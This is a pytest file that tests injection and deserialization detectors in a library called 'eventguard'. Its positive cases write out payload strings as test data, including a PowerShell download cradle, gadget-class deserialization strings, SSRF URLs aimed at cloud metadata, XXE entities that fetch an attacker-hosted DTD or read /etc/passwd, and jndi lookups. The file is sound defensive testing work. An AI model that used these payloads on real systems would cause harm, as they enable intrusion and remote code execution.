"""The small attack classes (nosqli, ssrf, xxe, log4shell, proto_pollution, deserialization,
ldapi, crlf, code_injection, ssti) on forms the development corpus has few or none of.

Each positive names the form of the language it covers (one case per form, written for this
test), and is checked both on its detector and through ``scan`` (its shape has a routing mark).
Each negative is ordinary text that shares a token with such a form and must stay quiet for
the detector named.
"""

from __future__ import annotations

import base64
from types import ModuleType

import pytest

from eventguard.runtime.detectors import (
    code_injection,
    deserialization,
    ldapi,
    log4shell,
    scan,
    ssrf,
    ssti,
    xxe,
)


def _b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


POSITIVES: list[tuple[ModuleType, str, str]] = [
    # deserialization
    (
        deserialization,
        "ruby marshal object in base64",
        _b64(b"\x04\x08o:\x15Gem::Requirement\x06:\x10@requirements[\x06o:"),
    ),
    (
        deserialization,
        "ruby marshal user-marshalled object in base64, in a cookie",
        "_app_session=" + _b64(b"\x04\x08U:\x11Gem::Specification[\x06"),
    ),
    (deserialization, "ruby marshal struct in base64", _b64(b"\x04\x08S:\x0bPoint\x07:\x06xi\x06")),
    (
        deserialization,
        "ruby marshal extended object in base64",
        _b64(b"\x04\x08e:\x0fKernelo:\x0bObject\x00"),
    ),
    (deserialization, "php object with a signed length", 'O:+4:"User":1:{s:5:"admin";b:1;}'),
    (deserialization, "php array with a signed count", 'a:+1:{i:0;O:+4:"Evil":0:{}}'),
    (
        deserialization,
        "fastjson class name opened as an array",
        '{"@type":"[com.sun.rowset.JdbcRowSetImpl"[{,"dataSourceName":"ldap://h/a"}',
    ),
    (
        deserialization,
        "xmldecoder object element naming a java class",
        '<java><object class="java.lang.ProcessBuilder"><void method="start"/></object></java>',
    ),
    (
        deserialization,
        "xstream dynamic proxy",
        "<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface></dynamic-proxy>",
    ),
    (
        deserialization,
        "jackson default typing array with an object",
        '["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://h/a"}]',
    ),
    (
        deserialization,
        "jackson default typing array with a url",
        '["org.springframework.context.support.FileSystemXmlApplicationContext","http://h/x"]',
    ),
    (deserialization, "java stream magic written as escapes", r"\xac\xed\x00\x05sr\x00\x11"),
    (deserialization, "pickle header written as escapes", r"\x80\x04\x95\x1f\x00"),
    # ssrf
    (ssrf, "host after '@' in the fragment", "http://evil.example#@127.0.0.1/"),
    (ssrf, "host after an encoded slash and '@'", "http://www.example.com%2F@169.254.169.254/"),
    (ssrf, "wildcard dns with a hex address", "http://7f000001.nip.io/"),
    (ssrf, "loopback development domain", "http://app.lvh.me:3000/"),
    (ssrf, "scheme-relative url to loopback", "url=//127.0.0.1/admin"),
    (ssrf, "scheme-relative url to metadata", "//169.254.169.254/latest/meta-data"),
    (ssrf, "scheme-relative url to bracketed ipv6", "next=//[::1]/"),
    # code_injection
    (code_injection, "php callback named by a string", "array_map('system', array('id'));"),
    (code_injection, "php sort callback", "usort($a, 'assert');"),
    (code_injection, "php request value called", "$_GET['f']($_GET['a']);"),
    (code_injection, "php variable function on a request value", "$f($_POST['c']);"),
    (code_injection, "eval of a php variable", "eval($_POST['cmd']);"),
    (code_injection, "ruby command literal", "%x(id)"),
    (code_injection, "ruby pipe opened as a file", "open('|id').read"),
    (code_injection, "ruby method sent by name", "send(:system, 'id')"),
    (code_injection, "ruby kernel fetched by name", "Object.const_get('Kernel').system('id')"),
    (code_injection, "ruby instance_eval", "instance_eval('`id`')"),
    (code_injection, "ruby open3", "Open3.capture2('id')"),
    (code_injection, ".net process start", 'System.Diagnostics.Process.Start("calc")'),
    (
        code_injection,
        "powershell static process start",
        "[System.Diagnostics.Process]::Start('calc')",
    ),
    (
        code_injection,
        "powershell download cradle",
        "IEX (New-Object Net.WebClient).DownloadString('u')",
    ),
    (code_injection, "powershell invoke-expression", "Invoke-Expression $payload"),
    # ldapi
    (ldapi, "absolute true filter after a close", "admin)(&)"),
    (ldapi, "operators opened on nothing", "admin))(|(|"),
    (ldapi, "negation of a conjunction opened", "jdoe)(!(&"),
    # log4shell
    (log4shell, "jndi spelled by a lookup not resolved here", "${${base64:am5kaQ==}:ldap://h/a}"),
    (log4shell, "jndi spelled by a custom lookup", "${${custom:x}:rmi://h/a}"),
    # ssti
    (ssti, "razor explicit expression calling a dotted name", '@(System.IO.File.ReadAllText("x"))'),
    (
        ssti,
        "razor implicit expression on a .net namespace",
        '@System.Diagnostics.Process.Start("calc")',
    ),
    (ssti, "velocity reflection on a variable", '$x.getClass().forName("java.lang.Runtime")'),
    # xxe
    (
        xxe,
        "standard public identifier with an attacker's dtd url",
        '<!DOCTYPE foo PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://attacker.test/x.dtd">',
    ),
    (
        xxe,
        "standard host spelled as a prefix of an attacker's",
        '<!DOCTYPE foo PUBLIC "-//W3C//X//EN" "http://www.w3.org.attacker.test/x.dtd">',
    ),
    (
        xxe,
        "entity after a standard doctype",
        '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://www.w3.org/x.dtd">'
        '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    ),
    (
        xxe,
        "parameter entity in an svg",
        '<svg><!DOCTYPE svg [<!ENTITY % p SYSTEM "http://h/x.dtd"> %p;]></svg>',
    ),
    (ssrf, "tencent cloud metadata name", "http://metadata.tencentyun.com/latest/meta-data/"),
    (ssrf, "rancher metadata name", "http://rancher-metadata/latest"),
    (ssrf, "kubernetes service dns name", "http://kubernetes.default.svc.cluster.local/api"),
    (
        xxe,
        "utf-7 doctype",
        '<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE foo+AFs-+ADw-!ENTITY',
    ),
    (
        xxe,
        "utf-16 read as bytes",
        "<\x00!\x00D\x00O\x00C\x00T\x00Y\x00P\x00E\x00 \x00r\x00 \x00[\x00",
    ),
    (
        deserialization,
        "jackson class id naming a gadget",
        '{"@class":"org.apache.commons.collections.functors.InvokerTransformer"}',
    ),
    (
        deserialization,
        "viewstate holding a binaryformatter object",
        "__VIEWSTATE=%2FwEyxBEAAQAAAP%2F%2F%2F%2F8BAAAAAAAAAAwCAAAAXk1p",
    ),
    (code_injection, "node global reached with brackets", "global['process']['mainModule']"),
    (code_injection, "node process module with brackets", 'process["binding"]("spawn_sync")'),
    (
        code_injection,
        "function built through reflect",
        "Reflect.construct(Function, ['return process'])()",
    ),
    (ssti, "spel type reference", "*{T(org.example.Util).run()}"),
    (ssti, "groovy constructor of a qualified class", '${ new org.example.Loader().load("x{y}") }'),
    (ssti, "groovy annotation in an expression", "${ @Grab(group='x', module='y') }"),
]

NEGATIVES: list[tuple[ModuleType, str, str]] = [
    (
        deserialization,
        "rails session cookie: a marshalled hash of strings",
        "_app_session=" + _b64(b'\x04\x08{\x06I"\nhello\x06:\x06ETI"\nworld\x06;\x00T'),
    ),
    (deserialization, "base64 that holds the letters inside a run", "eyJhIjoiQkFodk8ifQBAhvOx"),
    (deserialization, "list of android package ids", '["com.whatsapp", "org.telegram.messenger"]'),
    (
        deserialization,
        "html object element with a css class",
        '<object class="video-embed" data="x">',
    ),
    (deserialization, "a ratio and a brace", "Ratio a:1:{b} in the chart"),
    (deserialization, "json-ld type", '{"@type": "Person", "name": "Jane Doe"}'),
    (ssrf, "double slash before a number in prose", "see //10.5 percent of the total"),
    (ssrf, "user handle after a path", "https://medium.com/@jane/my-first-post"),
    (ssrf, "scheme-relative url to a public address", "//8.8.8.8/resolve"),
    (ssrf, "a line comment", "x = 1 // 127 items"),
    (code_injection, "ticker in parentheses", "IEX (the Investors Exchange) listed it"),
    (code_injection, "printf hex format", 'printf("%x(%d)", a, b)'),
    (code_injection, "vue translation call", '{{ $t("welcome") }}'),
    (code_injection, "php callback with a harmless function", 'array_map("trim", $lines)'),
    (code_injection, "ruby send of an ordinary method", "send(:ping)"),
    (code_injection, "a process started in prose", "The process.start() hook runs first"),
    (ldapi, "a call on a call with a bang", "f(x)(!)"),
    (ldapi, "numbered clauses", "see clauses (a)(b) and (c)"),
    (log4shell, "a placeholder before a url", "Hello ${name}: see http://example.com"),
    (log4shell, "a nested variable before a url", "${${env:HOME}}:http://example.com"),
    (ssti, "e-mail with a parenthesized domain", "Contact admin@(company).com"),
    (ssti, "a price before a word", "I paid $5.getclass"),
    (ssti, "razor-like handle in prose", "Reply to @john (he knows)"),
    (
        xxe,
        "xhtml e-mail",
        '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" '
        '"http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd"><html><body>Hi</body></html>',
    ),
    (
        xxe,
        "apple property list",
        '<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" '
        '"http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist version="1.0"><dict/></plist>',
    ),
    (xxe, "html 4 public identifier alone", '<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01//EN">'),
    (xxe, "html5 legacy doctype", '<!DOCTYPE html SYSTEM "about:legacy-compat">'),
    (xxe, "xml without a doctype", '<?xml version="1.0" encoding="UTF-16"?><order id="7"/>'),
    (ssrf, "public host with local in its name", "https://cluster.local-news.example.com/"),
    (xxe, "utf-16 text without a declaration", "<\x00p\x00>\x00h\x00i\x00<\x00/\x00p\x00>\x00"),
    (xxe, "utf-7 text without markup", "+ADw-b+AD4-bold+ADw-/b+AD4-"),
    (deserialization, "ordinary viewstate", "__VIEWSTATE=/wEPDwUKLTI2NjY2NzY0OWRkZGQ="),
    (deserialization, "a css class key", '{"@class": "btn primary"}'),
    (deserialization, "a path starting with wey", "see /weyland/yutani/index.html"),
    (code_injection, "prose about a global process", "The global [process] improvement plan"),
    (code_injection, "a process list", "process['name'] is shown in the table"),
    (ssti, "placeholder in prose", "Hello ${name}, your order has shipped"),
]


@pytest.mark.parametrize(
    ("module", "text"),
    [pytest.param(m, t, id=f"{m.ID}-{name}") for m, name, t in POSITIVES],
)
def test_small_class_form_is_detected(module: ModuleType, text: str) -> None:
    assert module.detect(text) is not None
    assert module.ID in {rule for rule, _ in scan(text)}


@pytest.mark.parametrize(
    ("module", "text"),
    [pytest.param(m, t, id=f"{m.ID}-{name}") for m, name, t in NEGATIVES],
)
def test_rejects_small_class_lookalike(module: ModuleType, text: str) -> None:
    assert module.detect(text) is None
